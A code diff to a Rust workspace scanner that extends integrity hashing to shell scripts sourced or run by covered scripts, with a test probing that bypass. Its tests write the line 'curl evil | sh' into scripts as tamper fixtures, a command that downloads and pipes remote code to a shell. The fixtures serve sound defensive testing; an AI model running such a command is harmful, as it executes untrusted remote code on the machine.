@@ -14,7 +14,7 @@ use nix::libc;
 use serde::Serialize;
 use sha2::{Digest, Sha256};
 
-use crate::discovery::named::{NamedFiles, named_paths};
+use crate::discovery::named::{NamedFiles, named_paths, scripts_a_script_runs};
 use crate::manifest::{MANIFEST_FILE, Manifest};
 use crate::text::hex;
 use crate::user_file::Stamp;
@@ -417,6 +417,45 @@ impl<'a> Scanner<'a> {
         };
         for candidate in named_paths(&manifest) {
             self.cover_named(&candidate, Some(folder), rel)?;
+            self.follow_script(&candidate, dir, Some(folder), rel, 0)?;
+        }
+        Ok(())
+    }
+
+    /// Covers what the shell script at `path` runs by name
+    /// ([`scripts_a_script_runs`]: what it sources, the scripts it hands an
+    /// interpreter), read from `cwd`, where the command runs, and what
+    /// those run in turn, three scripts deep.
+    fn follow_script(
+        &mut self,
+        path: &Path,
+        cwd: &Path,
+        skip: Option<&Path>,
+        rel: &Path,
+        depth: usize,
+    ) -> Result<(), ScanError> {
+        use std::io::Read as _;
+        /// The most of a script read for what it runs.
+        const MAX_SCRIPT_BYTES: u64 = 256 * 1024;
+        if depth >= 3 || !path.is_file() {
+            return Ok(());
+        }
+        let mut text = Vec::new();
+        let read = std::fs::File::open(path)
+            .and_then(|file| file.take(MAX_SCRIPT_BYTES).read_to_end(&mut text));
+        let shell = text.starts_with(b"#!")
+            && text
+                .split(|&b| b == b'\n')
+                .next()
+                .is_some_and(|line| line.windows(2).any(|w| w == b"sh"));
+        if read.is_err() || !(shell || path.extension().is_some_and(|e| e == "sh")) {
+            return Ok(());
+        }
+        let text = String::from_utf8_lossy(&text);
+        for script in scripts_a_script_runs(&text) {
+            let candidate = cwd.join(script);
+            self.cover_named(&candidate, skip, rel)?;
+            self.follow_script(&candidate, cwd, skip, rel, depth + 1)?;
         }
         Ok(())
     }
@@ -490,6 +529,7 @@ impl<'a> Scanner<'a> {
         NamedFiles::from(self.workspace.to_owned(), true, &mut named).line(command);
         for candidate in named {
             self.cover_named(&candidate, None, rel)?;
+            self.follow_script(&candidate, self.workspace, None, rel, 0)?;
         }
         Ok(())
     }
@@ -1131,6 +1171,42 @@ mod tests {
             write(&f.ws.join(script), "curl evil | sh\n");
             assert_ne!(sha(&f.ws), base, "{args}: `{script}` is not covered");
         }
+    }
+
+    /// Attack (a probe of the fix above): the covered script sources
+    /// another (`. ../../../scripts/run.sh`) or hands one to Python; that
+    /// one was not covered, and ran changed. What a script writes (a log)
+    /// is not covered: trust would end at its first run.
+    #[test]
+    fn what_a_covered_script_sources_or_runs_is_covered_and_what_it_writes_is_not() {
+        let f = fixture();
+        let ext = f.ws.join(".zot/extensions/helper");
+        write(
+            &f.ws.join("scripts/outer.sh"),
+            "#!/bin/sh\n. ../../../scripts/run.sh\npython3 ../../../scripts/tool.py\n\
+             echo ran >> ../../../log.txt\n",
+        );
+        write(&f.ws.join("scripts/run.sh"), "echo 1\n");
+        write(&f.ws.join("scripts/tool.py"), "print(1)\n");
+        write(&f.ws.join("log.txt"), "");
+        // The script in the folder sources one outside it, too.
+        write(
+            &ext.join("run.sh"),
+            "#!/bin/sh\n. ../../../scripts/env.sh\n",
+        );
+        write(&f.ws.join("scripts/env.sh"), "X=1\n");
+        write(
+            &ext.join("extension.json"),
+            r#"{"name":"helper","exec":"sh","args":["-c","sh ../../../scripts/outer.sh; ./run.sh"]}"#,
+        );
+        for script in ["scripts/run.sh", "scripts/tool.py", "scripts/env.sh"] {
+            let base = sha(&f.ws);
+            write(&f.ws.join(script), "curl evil | sh\n");
+            assert_ne!(sha(&f.ws), base, "`{script}` is not covered");
+        }
+        let base = sha(&f.ws);
+        write(&f.ws.join("log.txt"), "ran\n");
+        assert_eq!(sha(&f.ws), base, "what the script writes is covered");
     }
 
     #[test]
